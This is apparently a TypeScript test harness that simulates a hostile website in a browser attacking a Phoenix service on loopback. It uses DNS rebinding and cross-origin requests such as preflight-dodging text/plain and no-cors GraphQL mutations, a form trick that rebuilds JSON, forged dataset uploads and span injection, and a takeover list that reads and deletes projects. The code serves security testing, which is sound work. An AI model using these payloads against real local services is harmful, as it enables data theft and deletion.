/** A website of somebody else that is open in a browser on this machine, and attacks a service that listens on loopback. */
import * as fs from 'node:fs';
import * as http from 'node:http';
import type { AddressInfo } from 'node:net';
import * as path from 'node:path';
import { text } from 'node:stream/consumers';
import { browse } from './browser';

/** What its page sends. */
export interface Attempt {
  readonly method: 'GET' | 'POST' | 'DELETE';
  readonly path: string;
  /** Content type. Without one, none is said of a body. */
  readonly type?: string;
  readonly body?: string;
  /** In place of a body: as multipart/form-data, or what the inputs of the form hold. */
  readonly fields?: Readonly<Record<string, string>>;
  /** Besides the fields: text of a CSV file, in the part `file`. */
  readonly file?: string;
  /** An HTML form, sent into a frame of the page. */
  readonly form?: boolean;
  /** `no-cors` sends what needs nobody's consent, and lets the page read no answer. Default: `cors`. */
  readonly mode?: 'cors' | 'no-cors';
  /** From a sandboxed frame: its origin is `null`. */
  readonly anonymous?: boolean;
}

/**
 * What the page sees. `unreadable`: an answer that the browser keeps from it, and whatever became of a form. An error: the
 * browser did not send the request, or there was no answer.
 */
export type Answer = { readonly status: number; readonly body: string } | 'unreadable' | { readonly error: string };

/** What a page asks of a Phoenix that the browser takes for its own: the projects by both APIs, and that one is deleted. */
export const takeover = (project: string): Attempt[] => [
  { method: 'POST', path: '/graphql', type: 'application/json', body: JSON.stringify({ query: '{projects{edges{node{name}}}}' }) },
  { method: 'GET', path: '/v1/projects' },
  { method: 'DELETE', path: `/v1/projects/${encodeURIComponent(project)}` },
];

/**
 * What a page sends to a different origin, in each way that browsers have: a mutation, the upload of a dataset, and spans.
 * @param mark name of the dataset, or of the project of the spans, that is there once one of them has got in
 */
export function intrusion(mark: string): Attempt[] {
  const query = `mutation{createDataset(input:{name:${JSON.stringify(mark)}}){dataset{id}}}`;
  const mutation = JSON.stringify({ query });
  const spans = JSON.stringify({ resourceSpans: [{
    resource: { attributes: [{ key: 'openinference.project.name', value: { stringValue: mark } }] },
    scopeSpans: [{ spans: [{ traceId: '0af7651916cd43dd8448eb211c80319c', spanId: 'b7ad6b7169203331', name: mark, startTimeUnixNano: '1', endTimeUnixNano: '2' }] }],
  }] });
  const upload = { operations: mutation, map: '{}' };
  // A form joins name and value by `=`: the two are JSON again.
  const halves = { [`${mutation.slice(0, -1)},"padding":"`]: '"}' };
  const graphql = { method: 'POST', path: '/graphql' } as const;
  const traces = { method: 'POST', path: '/v1/traces' } as const;
  return [
    { ...graphql, mode: 'no-cors', type: 'text/plain', body: mutation },
    { ...graphql, mode: 'no-cors', type: 'text/plain', body: mutation, anonymous: true },
    { ...graphql, mode: 'no-cors', body: mutation },
    { ...graphql, mode: 'no-cors', fields: upload },
    { ...graphql, form: true, type: 'text/plain', fields: halves },
    { ...graphql, form: true, type: 'multipart/form-data', fields: upload },
    { ...graphql, form: true, type: 'application/x-www-form-urlencoded', fields: { query } },
    { ...graphql, type: 'application/json', body: mutation },
    { method: 'POST', path: '/v1/datasets/upload?sync=true', mode: 'no-cors', fields: { action: 'create', name: mark, 'input_keys[]': 'question', 'output_keys[]': 'answer' }, file: 'question,answer\n1,2\n' },
    { ...traces, mode: 'no-cors', type: 'text/plain', body: spans },
    // A browser asks first whether it may (OPTIONS): with `no-cors` it would go as text/plain.
    { ...traces, type: 'application/json', body: spans },
  ];
}

/**
 * DNS rebinding. The name of the website has two addresses; its own server, at the same port as the victim, delivers the
 * page and stops. The browser then finds the victim at the second address, and takes it for the origin of the page.
 * @param port of the victim at 127.0.0.1; nobody may listen on it at 127.0.0.2
 * @returns one answer for each attempt
 */
export const rebound = (port: number, attempts: readonly Attempt[]): Promise<Answer[]> =>
  attack(port, attempts, { stops: true });

/**
 * Requests across origins, to `http://localhost`. The page reads no answer that the victim does not allow it to: what
 * has come in, the victim must be asked for.
 * @param port of the victim at 127.0.0.1
 * @returns one answer for each attempt
 */
export const fromElsewhere = (port: number, attempts: readonly Attempt[]): Promise<Answer[]> =>
  attack(0, attempts.map((attempt) => ({ ...attempt, path: `http://localhost:${port}${attempt.path}` })), { stops: false });

const name = 'evil.example';
const address = '127.0.0.2';

/** @param port of the website @param stops whether it does once it has delivered the page */
async function attack(port: number, attempts: readonly Attempt[], { stops }: { stops: boolean }): Promise<Answer[]> {
  const page = fs.readFileSync(path.join(__dirname, 'website.html'));
  const website = http.createServer((_, response) => response.setHeader('content-type', 'text/html').end(page));
  let report: (answers: Answer[]) => void;
  const reported = new Promise<Answer[]>((resolve) => (report = resolve));
  const home = http.createServer((request, response) => {
    response.setHeader('access-control-allow-origin', '*');
    void (async () => {
      if (request.method === 'POST') {
        report(JSON.parse(await text(request)) as Answer[]);
        response.end();
        return;
      }
      if (stops) {
        await closed(website);
      }
      response.end(JSON.stringify(attempts.map(({ path: url, ...attempt }) => ({ ...attempt, url }))));
    })();
  });
  try {
    const at = await listening(website, port, address);
    return await browse(`http://${name}:${at}/#http://127.0.0.1:${await listening(home, 0, '127.0.0.1')}`, { name, addresses: [address, '127.0.0.1'] }, reported);
  } finally {
    await Promise.all([closed(website), closed(home)]);
  }
}

/** @returns the port */
function listening(server: http.Server, port: number, host: string): Promise<number> {
  return new Promise((resolve, reject) => {
    server.on('error', reject).listen(port, host, () => resolve((server.address() as AddressInfo).port));
  });
}

/** No connection to it is open then, and none is taken. */
function closed(server: http.Server): Promise<unknown> {
  const ended = new Promise((resolve) => server.close(resolve));
  server.closeAllConnections();
  return ended;
}
